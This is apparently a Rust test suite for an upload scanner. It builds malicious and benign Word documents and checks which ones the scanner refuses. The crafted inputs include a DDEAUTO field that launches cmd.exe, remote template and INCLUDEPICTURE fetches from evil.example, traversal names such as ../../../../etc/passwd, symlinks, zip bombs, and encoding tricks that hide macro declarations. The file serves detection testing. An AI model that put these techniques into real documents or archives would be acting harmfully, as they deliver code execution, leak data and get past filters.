//! Word documents: programs in them, what they fetch, and archives that are none.

use files::MediaType;

use crate::{
    Case, Verdict,
    contents::eicar,
    noise,
    samples::{Part, docx_with, ole, part, word, zip},
};

const MACRO: &str = "file_macro";
const ACTIVE: &str = "file_active_content";
const EXTERNAL: &str = "file_external";
const EMBEDDED: &str = "file_embedded";
const UNSAFE: &str = "file_unsafe_archive";
const BOMB: &str = "file_unpacks_too_large";

/// How a relationship says that it leads out of the document.
const EXTERNALLY: &str = "TargetMode=\"External\"";
/// What the types of relationships begin with.
const KINDS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in [
        "word/vbaProject.bin",
        "WORD/VBAPROJECT.BIN",
        "word/vbaData.xml",
        "word/activeX/activeX1.bin",
        "word/activeX/activeX1.xml",
        "word/embeddings/a.exe",
        "word/media/image1.EXE",
        "word/a.dll",
        "word/a.js",
        "word/a.vbs",
        "word/a.ps1",
        "word/a.hta",
        "word/a.lnk",
        "word/a.jar",
        "word/a.bat",
        "word/afchunk.html",
        "word/afchunk.mht",
        "word/embeddings/a.zip",
        "word/embeddings/a.rar",
        "word/embeddings/a.iso",
        "a.scr",
    ] {
        cases.push(refused(format!("a document with {name}"), docx_with(part(name, b"x")), MACRO));
    }
    let nested = zip(&[part("eicar.com", &eicar())]);
    let eicar_in = docx_with(part("word/eicar.com", &eicar()));
    let nested_in = docx_with(part("word/embeddings/a.zip", &nested));
    cases.push(refused("EICAR in a document", eicar_in, MACRO));
    cases.push(refused("EICAR in an archive in a document", nested_in, MACRO));
    for (what, types) in [
        ("declared", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        (
            "declared as a template",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ),
        (
            "under another name",
            "wordprocessingml.document.main+xml application/vnd.ms-office.vbaProject",
        ),
        ("in controls", "wordprocessingml.document.main+xml application/vnd.ms-office.activeX+xml"),
    ] {
        cases.push(refused(format!("macros {what}"), declared(types.as_bytes()), MACRO));
    }
    let numbered = declared(b"wordprocessingml.document.main+xml macro&#69;nabled");
    cases.push(refused("macros declared by numbered letters", numbered, MACRO));
    let wide: Vec<u8> = "wordprocessingml.document.main+xml macroEnabled"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (what, types) in [
        ("in two bytes a letter", wide.as_slice()),
        (
            "by an entity",
            b"<!DOCTYPE a [<!ENTITY e 'macroEnabled'>]>wordprocessingml.document.main+xml &e;",
        ),
        ("in a comment", b"<!-- wordprocessingml.document.main+xml -->"),
        ("in no letters", b"wordprocessingml.document.main+xml \xFF\xFE"),
    ] {
        cases.push(refused(format!("types {what}"), declared(types), UNSAFE));
    }
    for (what, kind, code) in [
        ("a template", "attachedTemplate", EXTERNAL),
        ("an object", "oleObject", EMBEDDED),
        ("a picture", "image", EXTERNAL),
        ("a page in a frame", "frame", EXTERNAL),
        ("another document", "subDocument", EXTERNAL),
        ("another format", "aFChunk", EMBEDDED),
    ] {
        for target in
            ["https://evil.example/a", "\\\\evil.example\\a", "file:////evil/a", "mhtml:x!y"]
        {
            let bytes = related(kind, target, "TargetMode=\"External\"");
            cases.push(refused(format!("{what} from {target}"), bytes, code));
        }
    }
    let spelt = related("attachedTemplate", "https://evil.example/a", "TargetMode = 'External'");
    cases.push(refused("a template from elsewhere, spelt otherwise", spelt, EXTERNAL));
    let hidden =
        related("attachedTemplate", "https://evil.example/a", "TargetMode=\"Ext&#101;rnal\"");
    cases.push(refused("a template from elsewhere, by numbered letters", hidden, EXTERNAL));
    cases.extend(objects());
    cases.extend(worked_out());
    for (what, bytes) in [
        (
            "a template of one's own",
            related(
                "attachedTemplate",
                "file:///C:\\Users\\An\\Mẫu.dotx",
                "TargetMode=\"External\"",
            ),
        ),
        (
            "a link over lines",
            related("hyperlink", "mailto:a@b.vn?body=a&#xA;b&#10;c", "TargetMode=\"External\""),
        ),
        ("a link", related("hyperlink", "https://dichvucong.gov.vn", "TargetMode=\"External\"")),
        ("a picture inside", related("image", "media/image1.png", "")),
        ("a chart's workbook", docx_with(part("word/embeddings/Workbook.xlsx", &zip(&workbook())))),
        ("a font's letters", docx_with(part("word/fonts/font1.odttf", b"MZ\x01\x02 letters"))),
        ("words of another program", worked("<w:p><w:t>DDEAUTO INCLUDETEXT</w:t></w:p>")),
        ("a page's number", worked(&field(" PAGE \\* MERGEFORMAT "))),
        ("a link as a field", worked(&field(" HYPERLINK \"https://a.vn/include\" "))),
        (
            "a comment",
            docx_with(part("word/comments.xml", b"<w:comments><!-- vbaProject --></w:comments>")),
        ),
    ] {
        let verdict = Verdict::Taken(MediaType::Docx, "đơn.docx".to_owned());
        let what = format!("{what} in a document");
        cases.push(Case { what, name: "đơn.docx".to_owned(), bytes, verdict });
    }
    cases.extend(archives());
    cases
}

/// What other programs open, by what it is, by what it is said to be, and by how it is referred to;
/// each alone is enough.
fn objects() -> Vec<Case> {
    let typed = |extension: &str, kind: &str, data: &[u8]| {
        let mut parts = word();
        let types = format!("<Types><Default Extension=\"{extension}\" ContentType=\"{kind}\"/>");
        let types = String::from_utf8_lossy(&parts[0].data).replacen("<Types>", &types, 1);
        parts[0].data = types.into_bytes();
        parts.push(part(&format!("word/a.{extension}"), data));
        zip(&parts)
    };
    let ole_type = "application/vnd.openxmlformats-officedocument.oleObject";
    let mut with_macros = workbook();
    with_macros.push(part("xl/vbaProject.bin", b"x"));
    let mut fetching = workbook();
    let outside = relation("externalLinkPath", "https://evil.example/a.xlsx", EXTERNALLY);
    fetching.push(part("xl/externalLinks/_rels/externalLink1.xml.rels", outside.as_bytes()));
    let mut nested = workbook();
    nested.push(part("xl/embeddings/a.xlsx", &zip(&workbook())));
    let in_chart = |parts: &[Part]| docx_with(part("word/embeddings/a.xlsx", &zip(parts)));
    let many: Vec<Part> =
        (0..20).map(|n| part(&format!("word/embeddings/{n}.xlsx"), &zip(&workbook()))).collect();
    let many = zip(&word().into_iter().chain(many).collect::<Vec<_>>());
    let mut cases = Vec::new();
    for (what, bytes, code) in [
        ("an object", docx_with(part("word/embeddings/oleObject1.bin", b"x")), EMBEDDED),
        (
            "an object called otherwise",
            docx_with(part("word/a.dat", &ole("Ole10Native"))),
            EMBEDDED,
        ),
        ("an object by its type", typed("dat", ole_type, b"x"), EMBEDDED),
        ("an object by its reference", related("oleObject", "embeddings/a.dat", ""), EMBEDDED),
        ("a page by its type", typed("dat", "text/html", b"x"), EMBEDDED),
        (
            "rich text",
            docx_with(part("word/chunk.rtf", b"{\\rtf1{\\object\\objdata 01}}")),
            EMBEDDED,
        ),
        ("rich text by its type", typed("dat", "application/rtf", b"x"), EMBEDDED),
        ("rich text by its reference", related("aFChunk", "chunk.dat", ""), EMBEDDED),
        (
            "an old document",
            docx_with(part("word/embeddings/a.doc", &ole("WordDocument"))),
            EMBEDDED,
        ),
        ("an old workbook", docx_with(part("word/embeddings/a.xls", &ole("Workbook"))), EMBEDDED),
        ("an archive called otherwise", docx_with(part("word/a.dat", &zip(&word()))), EMBEDDED),
        ("a workbook that is none", in_chart(&word()), EMBEDDED),
        ("a workbook with macros", in_chart(&with_macros), MACRO),
        ("a workbook that fetches", in_chart(&fetching), EXTERNAL),
        ("a workbook in a workbook", in_chart(&nested), EMBEDDED),
        ("more workbooks than charts", many, EMBEDDED),
        ("macros by their reference", related("vbaProject", "a.xml", ""), MACRO),
        ("keys by their reference", related("keyMapCustomizations", "a.xml", ""), MACRO),
        ("a control by its reference", related("control", "a.xml", ""), MACRO),
    ] {
        cases.push(refused(format!("{what} in a document"), bytes, code));
    }
    cases
}

/// Fields that ask programs or fetch files.
fn worked_out() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, body, code) in [
        ("DDE", field(" DDEAUTO c:\\\\cmd.exe \"/k calc\" "), ACTIVE),
        ("DDE in pieces", field("D</w:instrText></w:r><w:r><w:instrText>DE a"), ACTIVE),
        ("DDE by numbered letters", field("&#68;DE a"), ACTIVE),
        ("DDE in one element", "<w:fldSimple w:instr=\"DDE a\"/>".to_owned(), ACTIVE),
        ("a picture", field("INCLUDEPICTURE \"http://evil.example/a.png\" \\d"), EXTERNAL),
        ("a text", field("INCLUDETEXT \"\\\\evil.example\\a.docx\""), EXTERNAL),
        ("a link", field("LINK Excel.Sheet.12 \"http://evil.example/a.xlsx\""), EXTERNAL),
    ] {
        cases.push(refused(format!("a document that works out {what}"), worked(&body), code));
    }
    let mut wide = word();
    wide[2].data = "<w:document/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    cases.push(refused("a document in two bytes a letter", zip(&wide), UNSAFE));
    cases
}

/// The parts of a small workbook.
fn workbook() -> Vec<Part> {
    let types = "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/\
        vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
    vec![
        part("[Content_Types].xml", types.as_bytes()),
        part("_rels/.rels", b"<Relationships/>"),
        part("xl/workbook.xml", b"<workbook/>"),
    ]
}

/// A document with this body.
fn worked(body: &str) -> Vec<u8> {
    let mut parts = word();
    parts[2].data = format!("<?xml version=\"1.0\"?><w:document>{body}</w:document>").into_bytes();
    zip(&parts)
}

/// A field of several elements, as Word writes it.
fn field(code: &str) -> String {
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let code = format!("<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>");
    format!("{}{code}{}<w:r><w:t>1</w:t></w:r>{}", mark("begin"), mark("separate"), mark("end"))
}

/// Archives that lie, or lead out of themselves.
fn archives() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in [
        "../evil.xml",
        "../../../../etc/passwd",
        "word/../../evil.xml",
        "word/..",
        "/etc/passwd",
        "..\\..\\evil.xml",
        "word\\evil.xml",
        "C:\\evil.xml",
        "C:evil.xml",
        "\\\\evil.example\\a.xml",
        "word/a\0.xml",
        "word/a\r\n.xml",
        "word/\u{1b}[2Ja.xml",
        "",
        "word/document.xml",
        "WORD/DOCUMENT.XML",
        "[content_types].xml",
    ] {
        let bytes = docx_with(part(name, b"x"));
        cases.push(refused(format!("a part called {name:?}"), bytes, UNSAFE));
    }
    let zeros = vec![0; 8 << 20];
    let xml = part("word/a.xml", &[7; 5_000]);
    let of = |part: &Part, claims: u32| Part { claims: Some(claims), ..part.clone() };
    let more = |parts: Vec<Part>| zip(&word().into_iter().chain(parts).collect::<Vec<_>>());
    let megabyte = (1 << 20) - 1;
    let many = (0..300).map(|n| of(&part(&format!("word/{n}.xml"), b"x"), megabyte)).collect();
    let stored = |n: u32| Part { stored: true, ..part(&format!("word/{n}"), b"") };
    // Heavy enough for what they say, and still more than types ever are.
    let types =
        Part { stored: true, ..of(&part("[Content_Types].xml", &noise(600_000)), 200 << 20) };
    let mut loose = zip(&word());
    loose.extend_from_slice(b"behind");
    let link = |mode| docx_with(Part { mode, ..part("word/link", b"/etc/passwd") });
    for (what, bytes, code) in [
        ("a part of a thousand times its weight", docx_with(part("word/a.xml", &zeros)), BOMB),
        ("many parts that weigh little", more(many), BOMB),
        ("ten thousand parts", more((0..10_001).map(stored).collect()), BOMB),
        ("a part of four gigabytes", docx_with(of(&xml, u32::MAX)), BOMB),
        ("types of two hundred megabytes", zip(&[types, part("word/document.xml", b"x")]), BOMB),
        ("a part that is larger than it says", docx_with(of(&xml, 10)), UNSAFE),
        ("a part that is smaller than it says", docx_with(of(&xml, 9_000)), UNSAFE),
        (
            "two names of one part",
            docx_with(Part { at: Some(0), ..part("word/a.xml", b"x") }),
            UNSAFE,
        ),
        (
            "a part in the directory",
            docx_with(Part { at: Some(1), ..part("word/a.xml", b"x") }),
            UNSAFE,
        ),
        (
            "a part outside of the file",
            docx_with(Part { at: Some(1 << 30), ..part("word/a.xml", b"x") }),
            "file_truncated",
        ),
        ("overlapping parts", overlapping(), BOMB),
        ("a link", link(0o120_777), UNSAFE),
        ("a link to a folder", link(0o120_755), UNSAFE),
        (
            "a password",
            docx_with(Part { flags: 1, ..part("word/a.xml", b"x") }),
            "file_password_protected",
        ),
        ("something before", [b"PK\x03\x04junk".as_slice(), &zip(&word())].concat(), UNSAFE),
        ("something behind", loose, "file_truncated"),
        ("packed data that are none", garbled(), "file_truncated"),
    ] {
        cases.push(refused(format!("an archive with {what}"), bytes, code));
    }
    cases
}

fn refused(what: impl Into<String>, bytes: Vec<u8>, code: &'static str) -> Case {
    Case::refused(what, "đơn.docx", bytes, code)
}

/// A document whose types are these.
fn declared(types: &[u8]) -> Vec<u8> {
    let mut parts = word();
    parts[0].data = types.to_vec();
    zip(&parts)
}

/// A document with one relationship.
fn related(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    let relations = relation(kind, target, mode);
    docx_with(part("word/_rels/document.xml.rels", relations.as_bytes()))
}

fn relation(kind: &str, target: &str, mode: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships>\
         <Relationship Id=\"rId1\" Type=\"{KINDS}/{kind}\" Target=\"{target}\" {mode}/></Relationships>"
    )
}

/// A document whose last part begins in the middle of the one before, under a right name of its own.
fn overlapping() -> Vec<u8> {
    let inner = zip(&[part("word/b.xml", b"b")]);
    // Stored as it is in the data of another part, a part's head can be found from outside.
    let head = &inner[..inner.len() - 22 - 46 - "word/b.xml".len()];
    let mut parts = word();
    parts.push(Part { stored: true, ..part("word/a.xml", head) });
    let at = zip(&parts).windows(head.len()).position(|window| window == head).unwrap_or_default();
    parts.push(Part { at: Some(at as u32), ..part("word/b.xml", b"b") });
    zip(&parts)
}

/// A document with a part whose packed data are noise.
fn garbled() -> Vec<u8> {
    let mut parts = word();
    parts.push(Part { stored: true, ..part("word/a.xml", &[0xFF; 64]) });
    let mut bytes = zip(&parts);
    // The directory says that it is packed.
    let entry = bytes.windows(4).rposition(|window| window == b"PK\x01\x02").unwrap_or_default();
    bytes[entry + 10] = 8;
    bytes
}
